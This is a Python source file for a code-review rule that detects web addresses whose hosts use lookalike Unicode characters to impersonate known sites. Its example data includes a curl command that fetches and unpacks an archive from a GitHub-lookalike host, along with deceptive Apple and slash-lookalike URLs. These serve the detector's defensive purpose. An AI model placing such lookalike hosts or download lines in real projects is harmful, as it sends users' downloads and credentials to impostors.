"""Finds web addresses whose host looks like another one."""

import re
from collections.abc import Iterator

from reviewloop.analysis.contract import (
    SECURITY,
    SHOULD,
    Example,
    FileCheck,
    Hit,
    Rule,
    SourceFile,
    Span,
)
from reviewloop.rules.diff.lookalikes import MIXED, taken_for

_MOST = 20  # findings for a file
_HOST = re.compile(r"\b(?:https?|wss?|ftp|ssh|git)://([^\s/?#\\\"'<>`)\]}]{1,255})", re.IGNORECASE)
_SLASHES = "\u2044\u2215\u29f8\uff0f"
_DOTLESS_I = "\u0131"  # an ordinary letter of Turkish names

_ADDRESS = Rule(
    id="diff/confusable-address",
    reviewer=SECURITY,
    severity=SHOULD,
    title="The host of an address looks like another one",
    why="Letters of other scripts make a host that reads like a known one and belongs to somebody "
    "else: downloads, keys and logins go there.",
    fix="Retype the address, or write it in its `xn--` form with a comment that says whose it is.",
    category="hidden-text",
    source="https://www.unicode.org/reports/tr39/",
    in_examples=True,
    bad=(
        Example("setup.sh", "curl https://git\u04bbub.com/tool | tar x\n"),
        Example("README.md", "[keys](https://xn--pple-43d.com/)\n"),
        Example("app.py", 'URL = "https://github.com\u2215org\u2215tool.zip.example.net/x"\n'),
    ),
    good=(
        Example("README.md", "https://m\u00fcnchen.de/ and https://xn--mnchen-3ya.de/\n"),
        Example(
            "app.py",
            'URL = "https://\u043f\u0440\u0435\u0437\u0438\u0434\u0435\u043d\u0442.\u0440\u0444/"\n',
        ),
        Example("app.py", 'URL = "https://k\u0131z\u0131lay.org.tr/"\n'),
    ),
)


def _run(file: SourceFile) -> Iterator[Hit]:
    told = 0
    for number, line in enumerate(file.lines, 1):
        if line.isascii() and "xn--" not in line:
            continue
        for found in _HOST.finditer(line):
            reason = _deceives(found.group(1).rpartition("@")[2])
            if reason and told < _MOST:
                told += 1
                span = Span(number, number, found.start(1) + 1, found.end(1) + 1)
                yield Hit(_ADDRESS.id, file.path, span, reason)


def _deceives(host: str) -> str:
    """Return what is wrong with a host, "" when nothing is."""
    slash = next((char for char in host if char in _SLASHES), "")
    if slash:
        return f"U+{ord(slash):04X} in the host looks like a slash: the host does not end there."
    name = ".".join(map(_decoded, host.partition(":")[0].lower().split(".")))
    if name.isascii() or not taken_for(name.rpartition(".")[2]).isascii():
        return ""
    for label in name.split("."):
        read = taken_for(label)
        odd = [char for char in label if not char.isascii() and char != _DOTLESS_I]
        if odd and (read.isascii() or MIXED.search(label)):
            names = ", ".join(dict.fromkeys(f"U+{ord(char):04X}" for char in odd[:4]))
            return f"The host reads like `{taken_for(name)}`, but holds {names}."
    return ""


def _decoded(label: str) -> str:
    if not label.startswith("xn--"):
        return label
    try:
        return label.removeprefix("xn--").encode("ascii").decode("punycode")
    except (UnicodeError, ValueError, OverflowError):
        return label


ADDRESSES = FileCheck("addresses", (_ADDRESS,), lambda file: bool(file.text), _run)
